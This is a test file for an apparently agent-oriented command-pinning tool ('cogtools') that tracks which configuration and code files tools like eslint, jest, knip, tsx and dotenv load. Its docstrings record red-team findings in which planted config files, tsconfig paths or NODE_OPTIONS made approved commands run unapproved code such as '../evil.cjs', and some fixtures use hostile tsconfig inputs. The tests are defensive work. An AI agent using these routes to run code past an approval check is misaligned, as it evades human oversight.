    eslint(tmp_path, "9.39.1")
    write(tmp_path / "tools" / "a.mjs", "\n")
    assert not finds(["eslint", "tools"], tmp_path, tmp_path / "tools" / "eslint.config.js")
    flagged = ["eslint", "--flag", "v10_config_lookup_from_file", "tools"]
    assert finds(flagged, tmp_path, tmp_path / "tools" / "eslint.config.js")
    told = ["eslint", "-c", "eslint.config.js", "tools"]
    eslint(tmp_path / "ten", "10.0.0")
    write(tmp_path / "ten" / "tools" / "a.mjs", "\n")
    assert not finds(told, tmp_path / "ten", tmp_path / "ten" / "tools" / "eslint.config.js")


@pytest.mark.parametrize(
    ("argv", "planted"),
    [
        (["markdownlint-cli2", "**/*.md", "#node_modules"], "docs/guide/.markdownlint-cli2.cjs"),
        (["markdownlint-cli2", "docs/**/*.md"], "docs/guide/.markdownlint.cjs"),
        (["markdownlint-cli2"], "docs/.markdownlint-cli2.mjs"),  # (the globs of its configuration)
        (["markdownlint-cli2", "--config", "docs/base.jsonc"], "docs/guide/.markdownlint.mjs"),
    ],
)
def test_markdownlint_cli2_finds_its_configuration_beside_each_file_it_lints(
    tmp_path: Path, argv: list[str], planted: str
) -> None:
    """(newcomer pass 14's MAJOR-1: markdownlint-cli2 reads .markdownlint-cli2.* and .markdownlint.*
    in the directory of each Markdown file; a planted docs/guide/.markdownlint-cli2.cjs ran under
    a pinned `markdownlint-cli2 "**/*.md"`, where only the names from where it runs up were pinned)"""
    bin_program(tmp_path, "markdownlint-cli2", "markdownlint-cli2-bin.mjs")
    write(tmp_path / "docs" / "guide" / "intro.md", "# Guide\n")
    write(tmp_path / "docs" / "base.jsonc", "{}\n")
    assert finds(argv, tmp_path, tmp_path / planted)
    write(tmp_path / planted, "module.exports = {customRules: ['../evil.cjs']};\n")
    evil = write((tmp_path / planted).parent.parent / "evil.cjs", "\n")
    assert evil in command_code(argv, tmp_path, tmp_path).files


@pytest.mark.slow  # (2,050 directories)
def test_markdownlint_cli2_past_the_bound_is_open_with_no_option_offered(tmp_path: Path) -> None:
    bin_program(tmp_path, "markdownlint-cli2", "markdownlint-cli2-bin.mjs")
    for n in range(2050):
        (tmp_path / "docs" / f"d{n}").mkdir(parents=True)
    whys = [why for why, _ in command_code(["markdownlint-cli2", "**/*.md"], tmp_path, tmp_path).open]
    # (no option tells it to look for none: none is offered)
    assert any("from each file it reads, in more than 2048 directories here" in why for why in whys), whys
    assert not any("give it" in why for why in whys), whys


@pytest.mark.parametrize(
    ("argv", "planted", "told"),
    [
        (["cspell", "**/*.md"], "docs/guide/cspell.config.cjs", ["--no-config-search"]),
        (["cspell", "--locale", "en"], "docs/guide/.cspell.json", ["--no-config-search"]),  # (its files' globs)
        (["remark", "docs", "--frail"], "docs/guide/.remarkrc.mjs", ["--no-config"]),
        (["rehype", "docs/guide/intro.md"], "docs/guide/.rehyperc.js", ["--no-config"]),
        (["postcss", "docs/**/*.css", "-d", "out"], "docs/guide/postcss.config.js", ["--config", "."]),
    ],
)
def test_more_tools_find_their_configuration_beside_each_file_they_read(
    tmp_path: Path, argv: list[str], planted: str, told: list[str]
) -> None:
    """(the class of newcomer pass 14's MAJOR-1, each seen with the real tool: cspell 9 ran a
    planted docs/sub/cspell.config.cjs under `cspell "**/*.md"`, even given --config; remark-cli 12
    a docs/sub/.remarkrc.cjs; postcss-cli 11 a docs/sub/postcss.config.js)"""
    bin_program(tmp_path, argv[0], "cli.js")
    write(tmp_path / "docs" / "guide" / "intro.md", "# Guide\n")
    write(tmp_path / "docs" / "guide" / "a.css", "a{}\n")
    assert finds(argv, tmp_path, tmp_path / planted)
    write(tmp_path / planted, "module.exports = {plugins: ['../evil.cjs']};\n")
    evil = write((tmp_path / planted).parent.parent / "evil.cjs", "\n")
    assert evil in command_code(argv, tmp_path, tmp_path).files
    (tmp_path / planted).unlink()
    assert not finds([argv[0], *told, *argv[1:]], tmp_path, tmp_path / planted)


def test_postcss_under_vite_takes_the_configuration_of_its_root_and_under_webpack_each_files(tmp_path: Path) -> None:
    """(vite loads postcss.config.js from its root; webpack's postcss-loader from each module's directory)"""
    for program in ("vite", "webpack"):
        bin_program(tmp_path, program, "cli.js")
    write(tmp_path / "src" / "deep" / "a.css", "a{}\n")
    assert not finds(["vite", "build"], tmp_path, tmp_path / "src" / "deep" / "postcss.config.js")
    assert finds(["webpack"], tmp_path, tmp_path / "src" / "deep" / "postcss.config.js")
    assert tmp_path / "postcss.config.js" in command_code(["vite", "build"], tmp_path, tmp_path).files


def test_a_remark_plugin_named_by_its_shorthand_is_its_package(tmp_path: Path) -> None:
    """(unified-engine's pluginPrefix: `plugins: ["lint"]` in a .remarkrc.json loads remark-lint)"""
    bin_program(tmp_path, "remark", "cli.js")
    lint = package(tmp_path, "remark-lint")
    write(tmp_path / ".remarkrc.json", '{"plugins": ["lint"]}')
    assert lint in command_code(["remark", "."], tmp_path, tmp_path).files


@pytest.mark.parametrize("planted", ["test/.babelrc.json", "src/.babelrc.js", "src/deep/.babelrc"])
def test_babel_under_jest_finds_a_babelrc_beside_each_module(tmp_path: Path, planted: str) -> None:
    """(newcomer pass 12's S: babel-jest compiles every test and module with the nearest
    .babelrc; a planted test/.babelrc.json naming ../babel-evil.js ran under a pinned jest)"""
    bin_program(tmp_path, "jest", "bin/jest.js")
    write(tmp_path / "babel.config.json", "{}")
    write(tmp_path / "test" / "sum.test.js", "require('../src/sum.js');\n")
    write(tmp_path / "src" / "deep" / "sum.js", "\n")
    code = command_code(["jest"], tmp_path, tmp_path)
    assert code.open[1:] == (), code.open
    assert finds(["jest"], tmp_path, tmp_path / planted, "{}")
    write(tmp_path / planted, '{ "plugins": ["../babel-evil.js"] }')
    evil = write((tmp_path / planted).parent.parent / "babel-evil.js", "\n")
    assert evil in command_code(["jest"], tmp_path, tmp_path).files


@pytest.mark.slow  # (2,050 directories)
def test_babel_under_jest_past_the_bound_is_open_with_no_option_offered(tmp_path: Path) -> None:
    bin_program(tmp_path, "jest", "bin/jest.js")
    for n in range(2050):
        (tmp_path / "src" / f"d{n}").mkdir(parents=True)
    whys = [why for why, _ in command_code(["jest"], tmp_path, tmp_path).open]
    assert any("babel looks for its configuration from each file it reads under jest" in why for why in whys), whys
    assert not any("give it" in why for why in whys)


@pytest.mark.parametrize(
    ("planted", "loaded"),
    [
        ("jest.config.js", "module.exports = { setupFiles: ['./tools/s.js'] };\n"),
        ("playwright.config.ts", "import './tools/s.js';\nexport default {};\n"),
        ("knip.ts", "import './tools/s.js';\nexport default {};\n"),
        (".nycrc.json", '{"require": ["./tools/s.js"]}'),
    ],
)
def test_knip_loads_the_configuration_of_the_projects_other_tools(tmp_path: Path, planted: str, loaded: str) -> None:
    """(newcomer pass 12's U: knip's plugins import jest.config.js, playwright.config.js... of
    each tool the project depends on; an edit of them, or a planted knip.ts, ran under a pinned knip)"""
    bin_program(tmp_path, "knip", "bin/knip.js")
    write(tmp_path / "package.json", json.dumps({"name": "a", "devDependencies": {"knip": "5", "nyc": "17"}}))
    code = command_code(["knip", "--no-progress"], tmp_path, tmp_path)
    assert tmp_path / planted in code.files and len(code.open) == 1, code.open
    write(tmp_path / planted, loaded)
    setup = write(tmp_path / "tools" / "s.js", "\n")
    assert setup in command_code(["knip", "--no-progress"], tmp_path, tmp_path).files


@pytest.mark.parametrize(
    "planted", [".storybook/main.js", "commitlint.config.js", "uno.config.ts", "release.config.cjs"]
)
def test_knip_loads_what_its_own_table_of_plugins_names(tmp_path: Path, planted: str) -> None:
    """(attack9's F3: .storybook/main.js and commitlint.config.js, which knip's plugins load, were
    no conventional name of the project's dependencies: read from the installed knip's table)"""
    bin_program(tmp_path, "knip", "bin/knip.js")
    plugins = tmp_path / "node_modules" / "knip" / "dist" / "plugins"
    write(
        plugins / "storybook" / "index.js",
        "const config = ['.{storybook,rnstorybook}/{main,test-runner}.{js,ts,mts}'];\n",
    )
    write(plugins / "commitlint" / "index.js", "const config = ['package.json', ...toCosmiconfig('commitlint')];\n")
    write(plugins / "unocss" / "index.js", "const config = [...toUnconfig('uno.config')];\n")
    write(plugins / "semantic-release" / "index.js", "const config = ['.releaserc', 'release.config.{js,cjs,mjs}'];\n")
    write(plugins / "nx" / "index.js", "const config = ['{apps,libs}/**/project.json'];\n")
    code = command_code(["knip"], tmp_path, tmp_path)
    assert tmp_path / planted in code.files and len(code.open) == 1, code.open
    write(tmp_path / planted, f"require('{'../' if '/' in planted else './'}tools/s.js');\n")
    setup = write(tmp_path / "tools" / "s.js", "\n")
    assert setup in command_code(["knip"], tmp_path, tmp_path).files


def test_knip_told_another_directory_or_given_too_many_dependencies_is_open(tmp_path: Path) -> None:
    bin_program(tmp_path, "knip", "bin/knip.js")
    whys = [why for why, _ in command_code(["knip", "--directory", "../.."], tmp_path, tmp_path).open]
    assert any("each workspace package's tools" in why for why in whys), whys
    write(tmp_path / "package.json", json.dumps({"devDependencies": {f"p{n}": "1" for n in range(65)}}))
    whys = [why for why, _ in command_code(["knip"], tmp_path, tmp_path).open]
    assert any("more than 64 packages" in why for why in whys), whys


def test_knip_at_a_workspace_root_is_open(tmp_path: Path) -> None:
    bin_program(tmp_path, "knip", "bin/knip.js")
    write(tmp_path / "package.json", json.dumps({"name": "a", "workspaces": ["packages/*"]}))
    whys = [why for why, _ in command_code(["knip"], tmp_path, tmp_path).open]
    assert any("each workspace package's tools" in why for why in whys), whys


@pytest.mark.parametrize(
    ("config", "named", "text"),
    [
        (
            "module.exports = { preset: './presets/local/jest-preset.js' };\n",
            "presets/local/jest-preset.js",
            "module.exports = { setupFiles: ['<rootDir>/preset-setup.js'] };\n",
        ),
        (
            "module.exports = { projects: ['<rootDir>/jestcfg/unit.js'] };\n",
            "jestcfg/unit.js",
            "module.exports = { rootDir: '..', setupFiles: ['<rootDir>/preset-setup.js'] };\n",
        ),
        (
            "module.exports = { projects: ['<rootDir>/jestcfg/unit.json'] };\n",
            "jestcfg/unit.json",
            '{"rootDir": "..", "setupFiles": ["<rootDir>/preset-setup.js"]}',
        ),
    ],
)
def test_a_configuration_jest_is_named_is_read_as_one_whatever_it_is_called(
    tmp_path: Path, config: str, named: str, text: str
) -> None:
    """(newcomer pass 12's Y: a `preset` file, a `projects` entry without "config" in its name,
    were followed as modules, not read: the setup file they name ran edited, unasked)"""
    bin_program(tmp_path, "jest", "bin/jest.js")
    write(tmp_path / "jest.config.js", config)
    write(tmp_path / named, text)
    setup = write(tmp_path / "preset-setup.js", "\n")
    assert setup in command_code(["jest"], tmp_path, tmp_path).files


@pytest.mark.parametrize(
    "planted", [".markdownlint-cli2.cjs", ".markdownlint-cli2.jsonc", ".markdownlint.cjs", ".markdownlint.yaml"]
)
def test_a_configuration_named_after_the_tool_with_an_ending_is_named(tmp_path: Path, planted: str) -> None:
    """(newcomer pass 12's Z: markdownlint-cli2 reads .markdownlint-cli2.cjs and .markdownlint.cjs,
    outside the conventions cogtools named; a planted one ran under a pinned tool)"""
    bin_program(tmp_path, "markdownlint-cli2", "markdownlint-cli2-bin.mjs")
    code = command_code(["markdownlint-cli2", "README.md"], tmp_path, tmp_path)
    assert tmp_path / planted in code.files
    write(tmp_path / planted, '{"customRules": ["./config/md-rule.cjs"]}')
    rule = write(tmp_path / "config" / "md-rule.cjs", "\n")
    assert rule in command_code(["markdownlint-cli2", "README.md"], tmp_path, tmp_path).files


def test_configurations_that_name_each_other_too_deep_are_open_not_a_crash(tmp_path: Path) -> None:
    """A chain of 300 modules, each named by the one before (as a configuration names its preset),
    took Python past its limit of nested calls: INTERNAL at every call and sync."""
    bin_program(tmp_path, "jest", "bin/jest.js")
    write(tmp_path / "jest.config.js", "module.exports = { preset: './s0.js' };\n")
    for index in range(300):
        write(tmp_path / f"s{index}.js", f"module.exports = {{ preset: './s{index + 1}.js' }};\n")
    code = command_code(["jest"], tmp_path, tmp_path)
    assert any("name each other more than 32 deep" in why for why, _ in code.open), code.open


@pytest.mark.parametrize("named", ["./unit-setup2.js", "unit-setup2.js"])
def test_a_relative_path_of_a_jest_configuration_that_sets_its_root_dir_is_from_there(
    tmp_path: Path, named: str
) -> None:
    """(newcomer pass 13's AA: jest takes `./unit-setup2.js` from rootDir, cogtools from the
    configuration's directory: the file jest ran was not pinned)"""
    bin_program(tmp_path, "jest", "bin/jest.js")
    write(tmp_path / "jest.config.js", "module.exports = { projects: ['<rootDir>/jestcfg/unit.js'] };\n")
    write(tmp_path / "jestcfg" / "unit.js", f"module.exports = {{ rootDir: '..', setupFiles: ['{named}'] }};\n")
    setup = write(tmp_path / "unit-setup2.js", "\n")
    assert setup in command_code(["jest"], tmp_path, tmp_path).files


@pytest.mark.slow
def test_configurations_naming_each_other_widely_spend_one_budget_of_strings(tmp_path: Path) -> None:
    """(attack9's F5: 64 JSON files each naming the others and holding hundreds of <rootDir>
    strings, read again under each parent's rootDirs: 74 s a call; now one budget of strings a
    reading, past which the tool is open)"""
    bin_program(tmp_path, "mocha", "bin/mocha.js")
    write(tmp_path / ".mocharc.json", json.dumps({"require": [f"./d/f{k}.json" for k in range(64)]}))
    for k in range(64):
        names = [f"./f{(k + j) % 64}.json" for j in range(1, 9)] + [f"<rootDir>/y{j}" for j in range(200)]
        write(tmp_path / "d" / f"f{k}.json", json.dumps({"rootDir": f"r{k}", "require": names}))
    code = command_code(["mocha"], tmp_path, tmp_path)
    assert any("strings in all" in why or "rootDir more than" in why for why, _ in code.open), code.open


def test_a_per_file_tool_told_its_configuration_looks_for_none_and_too_many_places_are_open(tmp_path: Path) -> None:
    write(tmp_path / "src" / "a.js", "\n")
    told = ["prettier", "--config", "p.json", "--check", "src"]
    assert not finds(told, tmp_path, tmp_path / "src" / ".prettierrc.mjs")
    for n in range(2050):
        (tmp_path / "src" / f"d{n}").mkdir()
    ((why, needs),) = command_code(["prettier", "--check", "src"], tmp_path, tmp_path).open
    # (newcomer pass 13's AB: needs None was closed by any `code:`, as the tool's package)
    assert "from each file it reads" in why and "--config" in why and needs == "src"
    from cogtools.trust.pins import declares

    assert not declares(["node_modules/prettier/"], needs) and declares(["src/"], needs)


def test_what_a_configuration_of_data_names_is_loaded_code(tmp_path: Path) -> None:
    """(a .prettierrc.json's `plugins`, an .eslintrc.json's shorthand: a package or a file of the
    workspace the tool loads, which the agent could rewrite)"""
    plugin = package(tmp_path, "prettier-plugin-tailwindcss")
    react = package(tmp_path, "eslint-plugin-react")
    write(tmp_path / ".prettierrc.json", '{"semi": false, "plugins": ["prettier-plugin-tailwindcss", "./p.mjs"]}')
    write(tmp_path / "p.mjs", "import './more.mjs';\n")
    write(tmp_path / "more.mjs", "\n")
    code = command_code(["prettier", "--check", "x.js"], tmp_path, tmp_path)
    assert {plugin, tmp_path / "p.mjs", tmp_path / "more.mjs"} <= set(code.files), code.files
    write(tmp_path / ".eslintrc.yml", "extends: ['eslint:recommended', 'plugin:react/recommended']\nplugins: [react]\n")
    assert react in command_code(["eslint", "."], tmp_path, tmp_path).files


def test_a_tools_key_of_package_json_is_its_configuration_pinned_by_that_key(tmp_path: Path) -> None:
    from cogtools.trust.pins import manifest_digest, manifest_reads

    shared = package(tmp_path, "@acme/prettier-config")
    write(tmp_path / "package.json", json.dumps({"name": "a", "prettier": "@acme/prettier-config"}))
    code = command_code(["prettier", "--check", "x.js"], tmp_path, tmp_path)
    assert shared in code.files and (tmp_path / "package.json", "config:prettier") in code.manifests, code
    key, fields = manifest_reads(code.manifests)[tmp_path / "package.json"]
    assert key == "#config:prettier" and fields is not None and "prettier" in fields
    before = json.dumps({"name": "a", "prettier": "x", "dependencies": {}}).encode()
    assert manifest_digest(before, fields) == manifest_digest(before.replace(b"{}", b'{"y": "1"}'), fields)
    assert manifest_digest(before, fields) != manifest_digest(before.replace(b'"x"', b'"z"'), fields)


def test_a_directory_variable_assigned_again_is_no_longer_the_scripts(tmp_path: Path) -> None:
    """(an attacker's G12: DIR moved to the parent after it was the script's own directory)"""
    write(tmp_path / "s" / "r.sh", 'DIR="$(dirname "$0")"\nDIR="$(cd "$DIR/.." && pwd)"\nnode "$DIR/h.js"\n')
    write(tmp_path / "s" / "h.js", "\n")
    write(tmp_path / "h.js", "\n")
    code = command_code(["sh", "s/r.sh"], tmp_path, tmp_path)
    assert tmp_path / "s" / "h.js" not in code.files and code.open != (), code


# --- an attacker's pass over the mends (/tmp/work/attack6.md) ------------------------------------


def test_each_tsconfig_tsx_or_ts_node_may_read_sends_its_own_way(tmp_path: Path) -> None:
    """(G1: the script's directory has a tsconfig too; tsx reads the one where it runs)"""
    package(tmp_path, "zod")
    write(tmp_path / "tools" / "tsconfig.json", '{"compilerOptions": {"paths": {"zod": ["./z1.ts"]}}}')
    write(tmp_path / "tools" / "z1.ts", "\n")
    write(tmp_path / "tsconfig.json", '{"compilerOptions": {"paths": {"zod": ["./z2.ts"]}}}')
    write(tmp_path / "z2.ts", "import './more.ts';\n")
    write(tmp_path / "more.ts", "\n")
    write(tmp_path / "tools" / "t.ts", "import 'zod';\n")
    files = command_code(tsx_run(tmp_path, "tools/t.ts"), tmp_path, tmp_path).files
    assert {tmp_path / "tools" / "z1.ts", tmp_path / "more.ts"} <= set(files), files


@pytest.mark.parametrize(
    ("config", "extra"),
    [
        ('{"compilerOptions": {"baseUrl": "${configDir}/.."}}', {}),  # (G2)
        ('\ufeff{"compilerOptions": {"baseUrl": ".."}}', {}),  # (G3: saved with a byte order mark)
        ('{"extends": ".."}', {"tsconfig.json": '{"compilerOptions": {"baseUrl": "."}}'}),  # (G6)
        (  # (G5: a later entry of extends, with what it extends, wins over an earlier one)
            '{"extends": ["../a.json", "../b.json"]}',
            {
                "a.json": '{"compilerOptions": {"baseUrl": "./elsewhere"}}',
                "b.json": '{"extends": "./c.json"}',
                "c.json": '{"compilerOptions": {"baseUrl": "."}}',
            },
        ),
    ],
)
def test_tsconfig_is_read_as_typescript_reads_it(tmp_path: Path, config: str, extra: dict[str, str]) -> None:
    """(each way the attacker's pass found tsx's baseUrl to differ from cogtools')"""
    package(tmp_path, "zod")
    write(tmp_path / "tools" / "tsconfig.json", config)
    for name, text in extra.items():
        write(tmp_path / name, text)
    write(tmp_path / "tools" / "t.ts", "import 'zod';\n")
    files = command_code(tsx_run(tmp_path, "t.ts"), tmp_path / "tools", tmp_path).files
    assert tmp_path / "zod.ts" in files, files


def test_a_tsconfig_package_found_through_its_exports_is_read(tmp_path: Path) -> None:
    """(G4: `extends: "@cfg/base"`, whose package.json exports its tsconfig under another name)"""
    cfg = package(tmp_path, "@cfg/base", {"base.json": '{"compilerOptions": {"jsx": "react-jsx"}}'})
    write(cfg / "package.json", json.dumps({"name": "@cfg/base", "version": "1.0.0", "exports": {".": "./base.json"}}))
    runtime = package(tmp_path, "react")
    write(tmp_path / "tsconfig.json", '{"extends": "@cfg/base"}')
    write(tmp_path / "t.ts", "import './v.tsx';\n")
    write(tmp_path / "v.tsx", "export const v = <div />;\n")
    assert runtime in command_code(tsx_run(tmp_path, "t.ts"), tmp_path, tmp_path).files


@pytest.mark.parametrize("argv", [["node", "t.ts"], ["node", "--import", "tsx", "--tsconfig", "cfg.json", "t.ts"]])
def test_typescript_run_by_node_is_read_through_tsx_and_its_tsconfig_flag(tmp_path: Path, argv: list[str]) -> None:
    """(G7: tsx preloaded through NODE_OPTIONS from .npmrc or an env file; G8: tsx's --tsconfig)"""
    package(tmp_path, "tsx")
    package(tmp_path, "zod")
    name = "cfg.json" if "--tsconfig" in argv else "tsconfig.json"
    write(tmp_path / name, '{"compilerOptions": {"baseUrl": "."}}')
    write(tmp_path / "t.ts", "import 'zod';\n")
    files = command_code(argv, tmp_path, tmp_path).files
    assert tmp_path / name in files and tmp_path / "zod.ts" in files, files


@pytest.mark.parametrize("flags", [["-Bm", "mod"], ["-mmod"], ["-um", "mod"], ["-Sc", "import mod"]])
def test_python_running_a_module_or_code_by_joined_options_reads_where_it_runs(
    tmp_path: Path, flags: list[str]
) -> None:
    """(G9: `python3 -Bm mod` pinned nothing)"""
    write(tmp_path / "mod.py", "\n")
    assert tmp_path / "mod.py" in command_code(["python3", *flags], tmp_path, tmp_path).files


@pytest.mark.parametrize(
    "argv",
    [
        ["node_modules/.bin/dotenv", "--", "node", "x.js"],
        ["node_modules/.bin/dotenv", "-c", "ci", "--", "node", "x.js"],
        ["node_modules/.bin/env-cmd", "-f", ".env.ci", "node", "x.js"],
        ["node_modules/.bin/env-cmd", "--use-shell", "node x.js"],
        ["yarn", "node", "x.js"],
    ],
)
def test_what_a_loader_or_yarn_node_runs_is_read_as_a_command(tmp_path: Path, argv: list[str]) -> None:
    """(G17, G18: the script was pinned as a file, what it loads not followed)"""
    bin_program(tmp_path, "dotenv-cli", "index.js", "dotenv")
    bin_program(tmp_path, "env-cmd", "index.js")
    write(tmp_path / "x.js", "require('./lib.js');\n")
    write(tmp_path / "lib.js", "\n")
    code = command_code(argv, tmp_path, tmp_path)
    assert tmp_path / "lib.js" in code.files, code
    if "-c" in argv:
        assert tmp_path / ".env.ci" in code.files


@pytest.mark.parametrize(
    ("argv", "file", "text"),
    [
        (["node_modules/.bin/dotenv", "--", "node", "x.js"], ".env", 'NODE_OPTIONS="-r ./setup.cjs" # why\n'),
        (["node_modules/.bin/dotenv", "-v", "NODE_OPTIONS=-r ./setup.cjs", "--", "node", "x.js"], "", ""),
        (["node_modules/.bin/dotenvx", "run", "-e", "NODE_OPTIONS=-r ./setup.cjs", "--", "node", "x.js"], "", ""),
    ],
)
def test_node_options_a_loader_sets_are_followed(tmp_path: Path, argv: list[str], file: str, text: str) -> None:
    """(G14, G15: a quoted NODE_OPTIONS with a comment, one set by -v or dotenvx's -e)"""
    bin_program(tmp_path, "dotenv-cli", "index.js", "dotenv")
    bin_program(tmp_path, "@dotenvx/dotenvx", "index.js", "dotenvx")
    if file:
        write(tmp_path / file, text)
    write(tmp_path / "setup.cjs", "\n")
    write(tmp_path / "x.js", "\n")
    assert tmp_path / "setup.cjs" in command_code(argv, tmp_path, tmp_path).files


def test_an_env_file_berry_names_by_a_variable_is_open(tmp_path: Path) -> None:
    """(G16: yarn expands ${X:-.env.shared})"""
    script(tmp_path, "node x.js")
    write(tmp_path / "x.js", "\n")
    write(tmp_path / ".yarnrc.yml", "injectEnvironmentFiles:\n  - ${X:-.env.shared}?\n")
    ((why, needs),) = command_code(["yarn", "s"], tmp_path, tmp_path).open
    assert "by a variable" in why and needs is None


@pytest.mark.parametrize(
    "config",
    [
        json.dumps({"compilerOptions": {"paths": {"zod/*": [f"./t{n}/*" for n in range(256)]}}}),  # (G19)
        '{"compilerOptions": {"baseUrl": "a\\u0000b", "paths": {"zod": ["x\\u0000"]}}}',  # (G20)
        '{"extends": "a\\u0000b"}',
    ],
)
def test_a_hostile_tsconfig_costs_little_and_breaks_nothing(tmp_path: Path, config: str) -> None:
    import time

    package(tmp_path, "zod")
    write(tmp_path / "tsconfig.json", config)
    write(tmp_path / "t.ts", "".join(f"import 'zod/{n}';\n" for n in range(64)))
    started = time.process_time()
    code = command_code(tsx_run(tmp_path, "t.ts"), tmp_path, tmp_path)
    assert tmp_path / "tsconfig.json" in code.files and not any("\0" in str(path) for path in code.files)
    assert time.process_time() - started < 5  # (a bound on work, not a timing: tens of seconds before)


def test_a_paths_alias_tsx_maps_from_a_hash_is_followed(tmp_path: Path) -> None:
    """(G21: `"#lib/*": ["./lib/*"]`, which tsx maps before node's imports)"""
    write(tmp_path / "tsconfig.json", '{"compilerOptions": {"paths": {"#lib/*": ["./lib/*"]}}}')
    write(tmp_path / "lib" / "a.ts", "\n")
    write(tmp_path / "t.ts", "import '#lib/a';\n")
    code = command_code(tsx_run(tmp_path, "t.ts"), tmp_path, tmp_path)
    assert tmp_path / "lib" / "a.ts" in code.files and code.open == (), code


@pytest.mark.parametrize(
    ("flags", "cascaded"), [(["-c", "staging"], ".env.staging.local"), (["-e", ".env.tool", "-c"], ".env.tool.local")]
)
def test_the_files_dotenvs_cascade_loads_are_named(tmp_path: Path, flags: list[str], cascaded: str) -> None:
    """(G14: dotenv -c [ENV] loads each file's .local, .ENV and .ENV.local too)"""
    bin_program(tmp_path, "dotenv-cli", "index.js", "dotenv")
    write(tmp_path / "x.js", "\n")
    argv = ["node_modules/.bin/dotenv", *flags, "--", "node", "x.js"]
    assert tmp_path / cascaded in command_code(argv, tmp_path, tmp_path).files


@pytest.mark.parametrize(
    ("line", "loaded"),
    [
        ("python3 -m tool", "tool.py"),
        ("python3 -W ignore run.py", "helper.py"),
        ("node -r ./s.cjs x.js", "lib.js"),
        ('node -r "$(dirname "$0")/s.cjs" x.js', "s/s.cjs"),
    ],
)
def test_python_and_node_in_shell_text_are_read_as_commands(tmp_path: Path, line: str, loaded: str) -> None:
    """(G10: `python3 -m tool` or `node -r f x.js` in a shell script pinned the wrong file, or none)"""
    write(tmp_path / "s" / "r.sh", line + "\n")
    write(tmp_path / "s" / "s.cjs", "\n")
    for name, text in {"tool.py": "\n", "run.py": "import helper\n", "helper.py": "\n", "s.cjs": "\n"}.items():
        write(tmp_path / name, text)
    write(tmp_path / "x.js", "require('./lib.js');\n")
    write(tmp_path / "lib.js", "\n")
    assert tmp_path / loaded in command_code(["sh", "s/r.sh"], tmp_path, tmp_path).files


@pytest.mark.parametrize("wrapper", ['exec "$@"\n', 'node "$1"\n'])
@pytest.mark.parametrize("run", [["sh", "w.sh"], ["./w.sh"]])
def test_what_a_wrapper_is_given_to_run_is_read_as_a_command(tmp_path: Path, wrapper: str, run: list[str]) -> None:
    """(G11: `sh w.sh node x.js` with w.sh's `exec "$@"`: x.js was pinned as data)"""
    write(tmp_path / "w.sh", wrapper)
    (tmp_path / "w.sh").chmod(0o755)
    write(tmp_path / "x.js", "require('./lib.js');\n")
    write(tmp_path / "lib.js", "\n")
    given = ["node", "x.js"] if "$@" in wrapper else ["x.js"]
    assert tmp_path / "lib.js" in command_code([*run, *given], tmp_path, tmp_path).files


def test_a_sourced_file_naming_dollar_zero_is_read_from_its_callers_directory(tmp_path: Path) -> None:
    """(G13: in a sourced helper, $(dirname "$0") is the caller's directory, not the helper's)"""
    write(tmp_path / "r.sh", ". lib/helpers.sh\n")
    write(tmp_path / "lib" / "helpers.sh", 'node "$(dirname "$0")/h.js"\n')
    write(tmp_path / "h.js", "require('./more.js');\n")
    write(tmp_path / "more.js", "\n")
    assert tmp_path / "more.js" in command_code(["sh", "r.sh"], tmp_path, tmp_path).files


def test_a_place_named_where_nothing_is_is_no_change_and_a_file_written_there_is() -> None:
    """(a newcomer's m12: a new folder under prettier's argument re-asked, naming a configuration
    that is not there; m13: a refusal named package.json#load before the file written)"""
    from cogtools.trust.pins import _closure_change

    pinned = {"files": {"a.js": "1", "old/.prettierrc": None}, "settings": {}}
    now = {"files": {"a.js": "1", "new/.prettierrc": None}, "settings": {}}
    assert _closure_change(pinned, now, Path("/nonexistent")) is None
    now = {"files": {"a.js": "1", "src/.prettierrc.mjs": "2", "package.json#load": "3"}, "settings": {}}
    assert _closure_change(pinned, now) == "it now runs src/.prettierrc.mjs"


def test_what_a_javascript_configuration_names_by_a_string_is_its_code(tmp_path: Path) -> None:
    """(a newcomer's H: prettier.config.js's `plugins: ["prettier-plugin-x"]`, stylelint's `extends`)"""
    plugin = package(tmp_path, "prettier-plugin-organize-imports")
    standard = package(tmp_path, "stylelint-config-standard")
    write(tmp_path / "prettier.config.js", 'export default { plugins: ["prettier-plugin-organize-imports"] };\n')
    write(tmp_path / ".stylelintrc.cjs", "module.exports = { extends: ['stylelint-config-standard'] };\n")
    assert plugin in command_code(["prettier", "--check", "x.js"], tmp_path, tmp_path).files
    assert standard in command_code(["stylelint", "x.css"], tmp_path, tmp_path).files  # (G: .stylelintrc.cjs)


@pytest.mark.parametrize(
    ("config", "text"),
    [
        ("eslint.config.js", "import rules from '#eslint-rules';\nexport default [];\n"),
        (".prettierrc.json", '{"plugins": ["#eslint-rules"]}'),
        ("eslint.config.js", "import rules from '#rules/local';\nexport default [];\n"),
    ],
)
def test_what_package_json_imports_map_a_configuration_imports_to_is_followed(
    tmp_path: Path, config: str, text: str
) -> None:
    """(a newcomer's I: a configuration importing `#eslint-rules` ran the file it maps to unasked,
    the tool's `code:` closing the import's open reason)"""
    imports = {"#eslint-rules": "./config/rules.js", "#rules/*": "./config/*.js"}
    write(tmp_path / "package.json", json.dumps({"name": "a", "type": "module", "imports": imports}))
    write(tmp_path / "config" / "rules.js", "import './more.js';\n")
    write(tmp_path / "config" / "local.js", "import './more.js';\n")
    write(tmp_path / "config" / "more.js", "\n")
    write(tmp_path / config, text)
    program = "prettier" if "prettier" in config else "eslint"
    code = command_code([program, "."], tmp_path, tmp_path)
    assert tmp_path / "config" / "more.js" in code.files and code.open == (), code
    assert (tmp_path / "package.json", "load") in code.manifests  # (a remapping is a change)


@pytest.mark.parametrize("entry", ["test/setup.mjs", "./test/setup.mjs"])
def test_a_file_a_configuration_names_without_a_dot_is_followed_and_named_while_missing(
    tmp_path: Path, entry: str
) -> None:
    """(a newcomer's J: vitest's `setupFiles: ["test/setup.mjs"]` ran an edited file unasked)"""
    write(
        tmp_path / "vitest.config.mjs",
        f'export default {{ test: {{ setupFiles: ["{entry}"], include: ["t/**"] }} }};\n',
    )
    code = command_code(["vitest", "run"], tmp_path, tmp_path)
    assert tmp_path / "test" / "setup.mjs" in code.files or entry.startswith("./"), code.files
    write(tmp_path / "test" / "setup.mjs", "import './more.mjs';\n")
    write(tmp_path / "test" / "more.mjs", "\n")
    assert tmp_path / "test" / "more.mjs" in command_code(["vitest", "run"], tmp_path, tmp_path).files


# --- programs cogtools knows nothing particular of (issue 43: "conventions no list ends") --------


def vitest_like(root: Path) -> Path:
    """An installed vitest whose configuration names a setup file: what it runs of the project."""
    bin_program(root, "vitest", "vitest.mjs")
